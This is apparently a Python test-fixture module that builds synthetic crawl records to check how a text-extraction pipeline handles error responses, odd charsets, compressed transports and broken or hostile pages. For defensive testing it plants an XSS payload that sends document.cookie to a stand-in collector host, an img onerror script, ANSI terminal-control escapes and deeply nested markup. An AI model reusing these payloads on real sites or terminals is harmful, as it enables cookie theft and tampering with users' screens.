"""Planted trouble: other record kinds, odd charsets and transports, hostile and broken pages."""

import zlib
from collections.abc import Iterator
from dataclasses import replace
from html import escape

from curate.sample.cases import HTML, NO_TEXT, REJECTED, SKIPPED, Case, foreign_page, page
from curate.sample.prose import Writer, load
from curate.sample.records import chunked, gzip_member

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" + bytes(range(255, -1, -1)) * 20 + b"\n%%EOF\n"
SCRIPT = "<script>document.title='owned';fetch('https://collector.example/?c='+document.cookie)</script>"
ESCAPES = "\x1b[2J\x1b[31mred alert\x1b[0m \x1b]0;owned\x07 \x9b31m"


def hostile_cases() -> Iterator[Case]:
    yield from skipped()
    yield from charsets()
    yield from transports()
    yield from odd_pages()


def skipped() -> Iterator[Case]:
    """Responses that are no pages: counted by kind."""
    base = "https://library.example/other"
    moved = {"Location": "https://library.example/new"}
    empty = b"<html><head><title>Moved</title></head><body><p>This page has moved.</p></body></html>"
    for status in ("404 Not Found", "410 Gone", "500 Internal Server Error", "503 Service Unavailable"):
        lines = [f"The page was not found: {status}.", *Writer(status, topic="library").article(3)]
        url = f"{base}/{status.split()[0]}"
        yield page("error_status", url, lines, status=status, fate=SKIPPED, reason=f"status_{status.split()[0]}")
    for status in ("301 Moved Permanently", "302 Found", "304 Not Modified"):
        url = f"{base}/{status.split()[0]}"
        yield Case("redirect", url, empty, SKIPPED, f"status_{status.split()[0]}", status=status, http=moved)
    kinds = {
        "image/png": ("image", PNG),
        "application/pdf": ("pdf", PDF),
        "application/json": ("json", b'{"title": "Not a page", "tags": ["a", "b"]}'),
        "text/css": ("css", b"body { color: black }"),
        "application/javascript": ("javascript", b"console.log('not a page');"),
        "video/mp4": ("video", b"\x00\x00\x00\x18ftypmp42" + bytes(500)),
        "application/rss+xml": ("xml", b"<?xml version='1.0'?><rss version='2.0'><channel></channel></rss>"),
    }
    for kind, (short, body) in kinds.items():
        url = f"{base}/{kind.replace('/', '-')}"
        yield Case("not_html", url, body, SKIPPED, f"content_{short}", content_type=kind)


def charsets() -> Iterator[Case]:
    """Pages in other charsets, declared in the header, the markup, by a mark, or not at all."""

    def english(name: str, encoding: str, content_type: str) -> Case:
        lines = _article(f"charset {name}", "creamery")
        lines[1] = lines[1].replace(" the ", " the caf\u00e9\u2019s \u201cown\u201d ", 1)
        case = page(name, f"https://creamery.example/charset/{name}", lines, content_type=content_type)
        return replace(case, body=case.body.decode().encode(encoding))

    yield english("windows_1252", "windows-1252", "text/html; charset=windows-1252")
    yield english("latin1_label", "windows-1252", "text/html; charset=ISO-8859-1")
    yield english("no_charset", "utf-8", "text/html")
    yield english("unknown_charset", "utf-8", "text/html; charset=utf8-general-ci")
    yield english("utf_16_mark", "utf-16", "text/html")
    yield english("utf_16_header", "utf-16-le", "text/html; charset=utf-16le")
    yield english("utf_8_mark", "utf-8-sig", "text/html")
    base = "https://{}/charset/{}"
    for language, encoding, name, declared in (
        ("ru", "windows-1251", "header", "text/html; charset=windows-1251"),
        ("ru", "windows-1251", "nowhere", "text/html"),
        ("ru", "koi8-r", "koi8", "text/html; charset=koi8-r"),
        ("ja", "shift_jis", "meta", "text/html"),
        ("ja", "euc_jp", "euc", "text/html; charset=EUC-JP"),
        ("zh", "gb18030", "gb", "text/html; charset=gb2312"),
        ("ar", "windows-1256", "arabic", "text/html; charset=windows-1256"),
    ):
        url = base.format(load("languages")[language]["host"], name)
        meta = f"<meta charset='{encoding}'>" if name == "meta" else ""
        yield foreign_page(language, url, f"charset_{name}", encoding, meta, content_type=declared)


def transports() -> Iterator[Case]:
    """Bodies as they came over the wire: chunked, compressed, both, or not what the header says."""
    deflated = zlib.compress(b"", 0)[:2]
    for name, headers in (
        ("chunked", {"Transfer-Encoding": "chunked"}),
        ("gzip", {"Content-Encoding": "gzip"}),
        ("chunked_gzip", {"Transfer-Encoding": "chunked", "Content-Encoding": "gzip"}),
        ("deflate", {"Content-Encoding": "deflate"}),
        ("false_gzip", {"Content-Encoding": "gzip"}),
        ("false_chunked", {"Transfer-Encoding": "chunked"}),
        ("crawler_decoded", {"X-Crawler-Content-Encoding": "gzip", "X-Crawler-Transfer-Encoding": "chunked"}),
    ):
        case = page(name, f"https://harbour.example/transport/{name}", _article(name, "harbour"), http=headers)
        body = case.body
        if name in ("gzip", "chunked_gzip"):
            body = gzip_member(body)
        if name == "deflate":
            body = deflated + gzip_member(body)[10:-8] + zlib.adler32(body).to_bytes(4, "big")
        if name in ("chunked", "chunked_gzip"):
            body = chunked(body)
        yield replace(case, body=body)


def odd_pages() -> Iterator[Case]:
    """Pages that break or abuse what comes after."""
    base = "https://clayhouse.example/odd"
    lines = _article("hostile", "clayhouse", 6)
    hostile = f"The sign on the kiln said {SCRIPT} in red letters, which nobody dared to remove."
    image = "Beside it hung a note that said <img src=x onerror=alert(1)> and </title></style></pre>, as a joke."
    case = page(
        "hostile_markup",
        f"{base}/hostile?q=<script>alert(1)</script>&x=1",
        [lines[0], hostile, image, *lines[1:]],
    )
    head = case.body.split(b"<title>")[0] + b"<title>" + escape(f"</title>{SCRIPT} & co").encode()
    yield replace(case, body=head + b"</title>" + case.body.split(b"</title>", 1)[1])
    shout = f"The old terminal printed {ESCAPES} whenever the kiln was too hot."
    yield page("terminal_escapes", f"{base}/escapes", [shout, *_article("escapes", "clayhouse", 6)])
    case = page("nul_bytes", f"{base}/nul", _article("nul", "clayhouse", 6))
    yield replace(case, body=case.body.replace(b"<p>", b"<p>\x00").replace(b" of ", b" o\x00f ", 1))
    case = page("text_plain", f"{base}/plain.txt", [], content_type="text/plain; charset=utf-8")
    yield replace(case, body="\n\n".join(_article("text", "clayhouse", 6)).encode())
    case = page("xhtml", f"{base}/xhtml", _article("xhtml", "clayhouse"), content_type="application/xhtml+xml")
    yield replace(case, body=b"<?xml version='1.0' encoding='utf-8'?>\n" + case.body)
    lines = _article("deep", "clayhouse", 6)
    case = page("deep_nesting", f"{base}/deep", lines)  # libxml2, and so trafilatura, gives up on it
    yield replace(case, body=case.body.replace(b"<body>", b"<body>" + b"<div>" * 20_000))
    yield page("partial_content", f"{base}/partial", _article("partial", "clayhouse"), status="206 Partial Content")
    yield Case("empty_body", f"{base}/empty", b"", REJECTED, NO_TEXT)
    yield Case("no_text", f"{base}/frame", b"<html><body><script>load()</script></body></html>", REJECTED, NO_TEXT)
    yield Case("binary_as_html", f"{base}/picture", PNG, REJECTED, "extract.binary")
    case = page("cut_by_crawler", f"{base}/cut", _article("cut", "clayhouse", 8), warc={"WARC-Truncated": "length"})
    yield replace(case, body=case.body[:-700])
    yield page("no_date", f"{base}/undated", _article("undated", "clayhouse"), warc={"WARC-Date": ""})
    yield page("no_ip_no_digest", f"{base}/bare", _article("bare", "clayhouse"),
               warc={"WARC-IP-Address": "", "WARC-Payload-Digest": "", "WARC-Block-Digest": ""})  # fmt: skip
    yield page("no_content_type", f"{base}/untyped", _article("untyped", "clayhouse"), content_type=None,
               fate=SKIPPED, reason="content_missing")  # fmt: skip
    yield page("odd_content_type", f"{base}/odd", _article("odd", "clayhouse"), content_type=HTML.upper() + ";;")


def _article(seed: str, topic: str, paragraphs: int = 5) -> list[str]:
    return Writer(f"hostile {seed}", topic=topic).article(paragraphs)
